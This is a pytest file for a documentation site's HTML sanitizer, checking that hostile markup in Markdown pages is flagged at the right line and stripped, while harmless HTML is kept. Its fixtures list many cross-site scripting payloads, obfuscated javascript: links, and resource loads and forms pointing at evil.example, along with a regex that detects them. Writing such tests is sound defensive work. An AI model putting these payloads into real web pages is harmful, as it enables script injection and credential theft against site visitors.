"""The HTML that a written page may hold: what is refused, and where; what stays as it is."""

from __future__ import annotations

import re

import pytest

from macros.ground.findings import Finding, line_and_column
from macros.load.catalog import Catalog
from macros.written.allowed_html import ADMONITIONS, ELEMENTS, VOID
from macros.written.html_faults import cleaned, faults
from macros.written.html_tokens import html_tokens
from macros.written.macro_calls import find_calls
from macros.written.markdown_pages import MarkdownPages, MarkdownSettings, markdown_settings
from macros.written.page_html import PageHtml
from tests.support.folders import ALMANACS, REPOSITORY
from tests.support.fragments import FRAGMENT

SETTINGS = markdown_settings(REPOSITORY)
# Stands in a page before the part that a finding is about.
HERE = "¦"
# Whatever could do harm, as browsers see it.
HARM = re.compile(
    r"<(?:script|iframe|base|meta|link|style|object|embed|form|input|svg|math|template|alm-)"
    r"|\son\w+=|javascript:|style=|popovertarget|evil\.example|alm-|md-overlay|id=.__|\sname=",
    re.IGNORECASE,
)


def checked(text: str, catalog: Catalog, start: int = 0) -> list[Finding]:
    calls, _ = find_calls(text, "docs/x.md", catalog, start)
    return sorted(PageHtml(MarkdownPages(SETTINGS)).check(text, "docs/x.md", calls, start))


def html(text: str) -> str:
    return MarkdownPages(SETTINGS).html(text)


RUNS = {
    "a script": "Text.\n\n¦<script>alert(1)</script>\n",
    "a script in upper case": "Text ¦<SCRIPT src=//evil.example/x.js></SCRIPT> and on.\n",
    "a script behind a slash": "Text ¦<script/src=x></script>\n",
    "a script in a table": "|a|b|\n|-|-|\n|c|¦<script>alert(1)</script>|\n",
    "a script in the title of a box": '!!! note "A ¦<script>alert(1)</script>"\n    Text.\n',
    "a script in a footnote": "Text[^1].\n\n[^1]: ¦<script>alert(1)</script>\n",
    "a script in a definition": "Term\n:   ¦<script>alert(1)</script>\n",
    "a script in a heading": "## A ¦<script>alert(1)</script>\n",
    "a script in a list in a list": "- a\n\n    - b\n\n        ¦<script>alert(1)</script>\n",
    "a script that only a strict reader takes for a comment": (
        "a\n\n¦<!--><script>alert(1)</script><!-- -->\n"
    ),
    "a script in a comment that ends otherwise": "a\n\n<!-- --!>¦<script>alert(1)</script> -->\n",
    "a script in a math element": "¦<math><mi><script>alert(1)</script></mi></math>\n",
    "a script in a drawing": "¦<svg><script>alert(1)</script></svg>\n",
    "a script in a template": "¦<template><script>alert(1)</script></template>\n",
    "the contents of a title": "¦<title><b></title>\n",
    "a handler": "Text <b ¦onclick='alert(1)'>b</b>.\n",
    "a handler of a picture": "<img src=x ¦onerror=alert(1)>\n",
    "a handler without blanks": '<img src="x"\n¦onerror="alert(1)">\n',
    "a handler by a list of attributes": 'Text.\n{: ¦onclick="alert(1)" }\n',
    "a handler on a word": 'Text *word*{: ¦onmouseover="alert(1)" } text.\n',
    "a handler on a heading": '## Heading {: ¦onclick="alert(1)" }\n',
    "a handler on an element that opens by itself": "<details open ¦ontoggle=alert(1)></details>\n",
    "a link that runs": "[x](¦javascript:alert(1))\n",
    "a link that runs, in upper case": "[x](¦JavaScript:alert(1))\n",
    "a link that runs, with references": '<a ¦href="javascript&colon;alert(1)">x</a>\n',
    "a link that runs, by numbers": '<a ¦href="&#106;avascript:alert(1)">x</a>\n',
    "a link that runs, with a tab": '<a ¦href="java\tscript:alert(1)">x</a>\n',
    "a link that runs, with the end of a line": '<a ¦href="java\nscript:alert(1)">x</a>\n',
    "a link that runs, behind a blank": '<a ¦href=" javascript:alert(1)">x</a>\n',
    "a link that runs, by a definition": "[x][y]\n\n[y]: ¦vbscript:alert(1)\n",
    "a link with a page of its own": "[x](¦data:text/html,<script>alert(1)</script>)\n",
    "a link to a file": "[x](¦file:///etc/passwd)\n",
    "a link by another scheme": "[x](¦blob:https://x.example/1)\n",
}

LOADS = {
    "a base": '¦<base href="https://evil.example/">\n',
    "a refresh": '¦<meta http-equiv="refresh" content="0; url=https://evil.example/">\n',
    "a policy": '¦<meta http-equiv="Content-Security-Policy" content="">\n',
    "a style": "¦<style>* {background: url(//evil.example/x)}</style>\n",
    "a style sheet": "¦<link rel=stylesheet href=//evil.example/x.css>\n",
    "a frame": "¦<iframe src=x srcdoc='<script>alert(1)</script>'></iframe>\n",
    "an object": "¦<object data=x></object>\n",
    "an embedded file": "¦<embed src=x>\n",
    "a form": "¦<form action=//evil.example/><input name=password></form>\n",
    "an input": "Text ¦<input name=password>.\n",
    "a video": "¦<video poster=//evil.example/x.png></video>\n",
    "a sound": "¦<audio src=x></audio>\n",
    "a picture of choices": "¦<picture><source srcset=//evil.example/x.png></picture>\n",
    "an element of ours": "¦<alm-search></alm-search>\n",
    "a picture from another host": "Text.\n\n![x](¦https://evil.example/x.png)\n",
    "a picture without a scheme": "![x](¦//evil.example/x.png)\n",
    "a picture by a backslash": r'<img alt="" ¦src="/\evil.example/x.png">' + "\n",
    "a picture by a tab": '<img alt="" ¦src="/\n/evil.example/x.png">\n',
    "a picture by a definition": "![x][y]\n\n[y]: ¦https://evil.example/x.png\n",
    "a picture of the page itself": "![x](¦data:image/svg+xml,x)\n",
    "pictures of choice": "<img src=x.png ¦srcset=//evil.example/x.png>\n",
    "a background": "<table ¦background=//evil.example/x.png><tr><td>x</td></tr></table>\n",
    "a link that tells": "<a href=x.md ¦ping=//evil.example/>x</a>\n",
    "a link that opens elsewhere": "[x](https://x.example/){: ¦target=_blank }\n",
    "a style attribute": "<span ¦style='background: url(//evil.example/x)'>x</span>\n",
    "a style by a list of attributes": 'Text.\n{: ¦style="position: fixed" }\n',
    "a style that aligns and more": (
        '<table><tr><td ¦style="text-align: left; position: fixed">x</td></tr></table>\n'
    ),
}

IMITATES = {
    "a class of ours": '<span ¦class="alm-number">28,000</span>\n',
    "a class of ours by a list of attributes": "Text.\n{: ¦.alm-card }\n",
    "a class of ours as a box": '!!! ¦alm-card "Title"\n    Text.\n',
    "a class of ours on a fence": "``` {.py ¦.alm-card}\nx\n```\n",
    "a class that covers the page": '<div ¦class="md-overlay"></div>\n',
    "an opener of a card": '<b ¦popovertarget="card-x--y">5</b>\n',
    "a card": '<div ¦popover id="x">Evidence</div>\n',
    "an attribute of scripts": "<b ¦data-alm-fact=x>5</b>\n",
    "a placeholder": 'Text <span ¦data-alm-call="99"></span>.\n',
    "the placeholder of a call that is there": (
        'Text {{ fact("river-watch", "members") }} <span ¦data-alm-call="0"></span>.\n'
    ),
    "an id of the theme": "## Heading {: ¦#__search }\n",
    "an id of ours": '<p ¦id="alm-search-hits">x</p>\n',
    "an id of a card": '<p ¦id="card-x--y">x</p>\n',
    "an id that scripts look for": '<p ¦id="requestIdleCallback">x</p>\n',
    "an id of the theme by a heading": "Text.\n\n## `¦__search`\n",
    "a name": "<a ¦name=x>y</a>\n",
    "a name of a picture": "<img src=x.png ¦name=forms>\n",
    "a role": "<div ¦role=alert>x</div>\n",
}

SWALLOWS = {
    "an element that is not closed": "Text.\n\n¦<div>\n\nText.\n",
    "an element that is closed twice": "<div>x</div>\n\n¦</div>\n",
    "an element of the theme that is closed": "Text.\n\n¦</article>\n",
    "details that are not closed": "¦<details>\n<summary>a</summary>\n\nText.\n",
    "a comment that is not closed": "<p>a</p>\n\n<div>¦<!-- b</div>\n\nText.\n",
    "a field of text": "Text ¦<textarea> and on.\n",
    "the rest as text": "Text ¦<plaintext> and on.\n",
    "words that are closed in the next paragraph": "A ¦<b>b\n\nc</b> d.\n",
    "words that cross": "A <b>b ¦<i>c</b> d</i>.\n",
    "an element that is no void": "A ¦<span/> b.\n",
    "a list that browsers close": "<ul><li><div>¦<li></li></div></li></ul>\n",
    "text in a table": "¦<table><b>x</b><tr><td>y</td></tr></table>\n",
    "a link in a link": '<a href="x.md">a ¦<a href="y.md">b</a> c</a>\n',
    "a block in a paragraph": "Text ¦<div>x</div> text.\n",
    "a tag that is not whole": "Text.\n\n<div>¦<b x=</div>\n",
    "a command for a server": "Text ¦<?php x ?> text.\n",
    "a section of text": "Text.\n\n<div>¦<![CDATA[ x ]]></div>\n",
    "an attribute that is given twice": '<a href="x.md" ¦href="y.md">x</a>\n',
    "an end in the place of a void": "a<br>b¦</br>c\n",
}

OTHERS = {
    "an address that cannot be read": "[x](¦http://[::1)\n",
    "a name in brackets": "Write ¦<name> here.\n",
    "a width that is none": "![x](x.png){: ¦width=100vw }\n",
    "a cell over thousands": "<table><tr><td ¦colspan=99999>x</td></tr></table>\n",
    "a language that is none": "<i ¦lang='\"'>x</i>\n",
    "a center": "¦<center>x</center>\n",
    "an id of two words": '<p ¦id="a b">x</p>\n',
    "Markdown in HTML": '<div ¦markdown="1">x</div>\n',
    "code, and then the same": "`<b onclick=x>` <b ¦onclick=x>y</b>\n",
    "a block of code, and then the same": "    <script>\n\n¦<script></script>\n",
    "an attribute, and then another of its name": (
        "A [b](c.md){: title=d } e [f](g){: ¦target=h }.\n"
    ),
    "a picture by hand, and then another": "<img src=x.png> ![b](¦https://x.example/b.png)\n",
    "a comment, and then the same": "<!-- <script> -->\n\n¦<script></script>\n",
}

HOSTILE = {**RUNS, **LOADS, **IMITATES, **SWALLOWS, **OTHERS}


@pytest.mark.parametrize("page", HOSTILE.values(), ids=HOSTILE)
def test_hostile_html_is_refused_where_it_stands(page: str, rivers: Catalog) -> None:
    text = page.replace(HERE, "")
    found = checked(text, rivers)
    at = [line_and_column(text, page.index(HERE))]
    assert [(one.line, one.column) for one in found] == at, found
    (finding,) = found
    assert finding.rule in {"page-html", "page-address"}
    assert FRAGMENT.fullmatch(finding.message)
    assert FRAGMENT.fullmatch(finding.remedy)


@pytest.mark.parametrize("page", HOSTILE.values(), ids=HOSTILE)
def test_of_hostile_html_nothing_reaches_a_site(page: str) -> None:
    made = cleaned(html(page.replace(HERE, "")))
    assert not HARM.search(re.sub(r">[^<]*<", "><", made)), made
    assert not list(faults(made)), made


@pytest.mark.parametrize("page", [*RUNS.values(), *SWALLOWS.values()])
def test_no_page_closes_or_swallows_what_stands_around_it(page: str) -> None:
    made = cleaned(html(page.replace(HERE, "")))
    around = cleaned(f"<div><p>a</p><div>{made}</div><p>z</p></div>")
    assert around.startswith("<div><p>a</p><div>")
    assert around.endswith("</div><p>z</p></div>")


def test_an_element_that_is_left_open_is_told_and_those_below_it_are_not(rivers: Catalog) -> None:
    text = "<p>\n<a href='x.md'>\n b\n</p>\n\nText <a href='x.md'>d</a> and [e](x.md).\n"
    (finding,) = checked(text, rivers)
    assert (finding.line, finding.column) == (2, 1)
    assert "<a> is never closed" in finding.message


def test_code_that_markdown_puts_into_a_paragraph_is_told_once(rivers: Catalog) -> None:
    (finding,) = checked("> a\n>\n> > ```\n> > b\n> > ```\n> <!-- -->\n>? c\n", rivers)
    assert "cannot stand within a paragraph" in finding.message


MISLEADING = {
    "a host for a user": "[x](¦https://good.example@evil.example/)\n",
    "a host for a user, bare": "A <¦https://good.example@evil.example/>\n",
    "a host in letters that look like others": "[x](¦https://аррӏе.com/)\n",
    "no host": "[x](¦https:/evil.example)\n",
    "another host than is shown": "¦[https://good.example/a](https://evil.example/)\n",
    "another host than is shown, in HTML": '¦<a href="https://evil.example">www.good.example</a>\n',
    "a link that nobody sees": "¦[words](https://evil.example/){.headerlink}\n",
    "a link to a heading that nobody sees": "# A\n\n¦[so many words of no use](#a){.headerlink}\n",
    "a text that nobody sees": "Text.\n{: ¦.headerlink }\n",
    "a place in code that nobody sees": '<code>¦<a id="b">words</a></code>\n',
    "the order of letters": '¦<bdo dir="rtl">000,5</bdo>\n',
    "words too small to be read": (
        "<small><small><small>¦<small><sub>x</sub></small></small></small></small>\n"
    ),
}


@pytest.mark.parametrize("page", MISLEADING.values(), ids=MISLEADING)
def test_what_shows_something_else_than_it_is_is_refused(page: str, rivers: Catalog) -> None:
    text = page.replace(HERE, "")
    (finding,) = checked(text, rivers)
    at = line_and_column(text, page.index(HERE))
    assert (finding.line, finding.column) == at, finding
    assert FRAGMENT.fullmatch(finding.message)
    assert FRAGMENT.fullmatch(finding.remedy)


@pytest.mark.parametrize(
    "page",
    [
        "<https://good.example/a> and [https://good.example/…](https://www.good.example/b)\n",
        "[www.good.example](http://good.example:8080/) [https://good.example](x.md)\n",
        "[x](https://en.good.example/Rubik's_Cube_(toy)) [z](mailto:a@good.example)\n",
        "# A\n\n[x](https://例子.中国/) H<sub>2<sup>a</sup></sub>O[^1]\n\n[^1]: Note.\n",
    ],
)
def test_links_that_lead_where_they_say_are_taken(page: str, rivers: Catalog) -> None:
    assert checked(page, rivers) == []


def test_each_mistake_of_a_page_is_told_once_and_in_its_line(rivers: Catalog) -> None:
    text = (
        "---\ntitle: A\n---\n# A\n\n<b onclick=a>x</b>\n\nText `<b onclick=a>`\n\n"
        "<b onclick=a>x</b>\n\n![x](https://x.example/x.png)\n\n"
        "<script>\n<b onclick=a>\n</script>\n"
    )
    found = checked(text, rivers, text.index("# A"))
    assert [(one.line, one.column, one.rule) for one in found] == [
        (6, 4, "page-html"),
        (10, 4, "page-html"),
        (12, 6, "page-address"),
        (14, 1, "page-html"),
    ]


HARMLESS = {
    "boxes": "".join(f'!!! {kind} "A **b** <kbd>c</kbd>"\n    Text.\n\n' for kind in ADMONITIONS),
    "a box at the side": "!!! note inline end\n    Text.\n",
    "details": "<details>\n<summary>More</summary>\n<p>Text.</p>\n</details>\n",
    "open details": "<details open><summary>More</summary>\n\nText.\n\n</details>\n",
    "a figure": (
        '<figure>\n<img src="a.png" alt="A" width="300" height="20" loading="lazy">\n'
        "<figcaption>A <em>b</em></figcaption>\n</figure>\n"
    ),
    "words": (
        'H<sub>2</sub>O, m<sup>2</sup>, <kbd>Ctrl</kbd>, <abbr title="A b">AB</abbr>, '
        "a<br>b<br />c, "
        "<small>a</small>, <mark>b</mark>, <del>c</del>, <ins>d</ins>, <q>e</q>, <cite>f</cite>.\n"
    ),
    "languages": '<div lang="zh" dir="ltr">农村</div>\n\nA <span lang="zh-Hans">农村</span>.\n',
    "readings": "<ruby>农<rp>(</rp><rt>nóng</rt><rp>)</rp></ruby>\n",
    "a list of terms": "<dl>\n<dt>A</dt>\n<dd>B</dd>\n</dl>\n\nTerm\n:   Text <b>b</b>.\n",
    "a table": "| a | b | c |\n|:--|--:|:-:|\n| <b>d</b> | `|` | f<br>g |\n",
    "a table by hand": (
        '<table>\n<caption>A</caption>\n<tr><th scope="col" colspan="2" align="right">a</th></tr>\n'
        "<tr><td>b</td><td>c</td></tr>\n</table>\n"
    ),
    "footnotes": "A[^1] b[^two] c[^1].\n\n[^1]: A *b*.\n[^two]: C.\n\n    D <b>e</b>.\n",
    "code": "```yaml\na: <b>\n```\n\n~~~ html\n<script>\n~~~\n\n    <base>\n\n`<meta>`\n",
    "code with a title": '``` { .py title="a.py" linenums="1" hl_lines="1" }\nx = 1\n```\n',
    "code in a list": "1. A\n\n    ```py\n    x = '<b>'\n    ```\n\n2. B\n",
    "a comment": "A <!-- b --> c.\n\n<!--\n# d\n<script>\n-->\n\nE.\n",
    "links": (
        "[a](b.md#c) [d](https://e.example/?f=1&copy=2&g#h 'I \"j\"') <https://k.example/&l> "
        "<m@n.example> [o][p] [q](#r) [s](T.PDF) [](u.md) [v](../w.md?x=y:z)\n\n[p]: HTTP://E.example\n"
    ),
    "links by hand": '<a href="https://a.example/?b=1&c=2&copy=3" rel="license" title="d">e</a>\n',
    "pictures": '![a](b.png "c <d>"){ width=300 loading=lazy align=right }\n\n![](/e/f.svg)\n',
    "headings": "# A & b\n\n## `c` <d@e.example>\n\n## F {#g-h}\n\n## F\n\n## F\n\n### 农村\n",
    "contents": "[TOC]\n\n## A\n\n### B\n",
    "characters": "A < b > c & d &copy; &lt;script&gt; &#x41; &nbsp;e 1 <2 a<3.\n",
    "characters in HTML": "<p>A < b &amp; c & d &copy; &lt;script&gt; &notit; <3</p>\n",
    "quotes and lists": "> A\n>\n> - b\n>\n>     1. c\n\n* * *\n\n- <b>d</b>\n    - <i>e</i>\n",
    "preformatted text": "<pre>\n  a &lt;b&gt;\n\n  c\n</pre>\n",
    "a button": "[A](b.md){ .md-button .md-button--primary }\n",
    "calls": (
        '# A {{ fact("river-watch", "members") }}\n\n{{ compare() }}\n\n'
        "- a\n\n    {{ coverage() }}\n\n"
        '| a |\n|---|\n| {{ fact("river-watch", "members") }} |\n'
    ),
}


@pytest.mark.parametrize("page", HARMLESS.values(), ids=HARMLESS)
def test_harmless_html_has_no_findings(page: str, rivers: Catalog) -> None:
    assert checked(page, rivers) == []


@pytest.mark.parametrize("page", HARMLESS.values(), ids=HARMLESS)
def test_cleaning_takes_nothing_from_harmless_html(page: str) -> None:
    made = html(page)
    assert not list(faults(made))
    again = cleaned(made)
    assert not list(faults(again))
    assert shown(again) == shown(made)


def shown(made: str) -> list[str]:
    """The words of a page, and where its elements begin."""
    parts = (token.content for token in html_tokens(made) if token.kind in {"text", "start"})
    # Browsers add <tbody> where it is left out.
    return [word for part in parts for word in part.split() if word != "tbody"]


@pytest.mark.parametrize("element", sorted(set(ELEMENTS) - VOID))
def test_an_allowed_element_that_is_not_closed_is_told(element: str) -> None:
    assert [fault.objection.message for fault in faults(f"<{element}>x")] == [
        f"<{element}> is never closed"
    ]


def test_levels_without_end_are_told(rivers: Catalog) -> None:
    (finding,) = checked(f"{'<b>' * 150}x{'</b>' * 150}\n", rivers)
    assert finding.message == "the HTML is nested too deeply"


def pages() -> list[str]:
    files = [*(REPOSITORY / "docs").rglob("*.md"), *ALMANACS.glob("*/docs/**/*.md")]
    return [path.read_text("utf-8") for path in files]


def test_no_page_of_the_almanacs_has_a_fault() -> None:
    assert len(pages()) > 40
    for text in pages():
        assert not list(faults(html(text)))


def test_markdown_that_gives_up_is_a_finding(rivers: Catalog) -> None:
    (finding,) = checked(f"# A\n\n{'- ' * 500}b\n", rivers)
    assert finding.rule == "page-html"
    assert "no page can be made" in finding.message


EXTENSIONS = MarkdownPages(
    MarkdownSettings(
        (
            *("toc", "tables", "attr_list", "md_in_html", "pymdownx.arithmatex"),
            *("pymdownx.details", "pymdownx.keys", "pymdownx.mark", "pymdownx.superfences"),
            *("pymdownx.tabbed", "pymdownx.tasklist"),
        ),
        {
            "pymdownx.arithmatex": {"generic": True},
            "pymdownx.tabbed": {"alternate_style": True},
            "pymdownx.tasklist": {"custom_checkbox": True},
        },
    )
)


@pytest.mark.parametrize(
    "text",
    [
        "- [x] done\n- [ ] open\n",
        '=== "One"\n\n    Text\n\n=== "Two"\n\n    Text\n',
        '??? note "More"\n    Text\n\n???+ tip "Open"\n    Text\n',
        "++ctrl+alt+delete++ and ==marked== and $x^2$\n",
        '<div class="grid cards" markdown>\n\n- One\n- Two\n\n</div>\n',
    ],
)
def test_what_extensions_make_that_a_maintainer_has_chosen_is_fine(text: str) -> None:
    assert list(PageHtml(EXTENSIONS).check(text, "docs/x.md", ())) == []


@pytest.mark.parametrize(
    "element",
    [
        "<input>",
        "<input type=text>",
        "<input type=password name=x>",
        "<input type=1>",
        "<input type=submit>",
        "<input type=radio name=__drawer>",
        "<input type=checkbox id=__drawer>",
        "<label for=__search>a</label>",
        "<label for=__drawer>a</label>",
        "<kbd class=md-overlay>a</kbd>",
    ],
)
def test_no_field_to_write_into_and_no_switch_of_the_theme_is_taken(element: str) -> None:
    assert list(PageHtml(EXTENSIONS).check(f"Text {element} text.\n", "docs/x.md", ()))
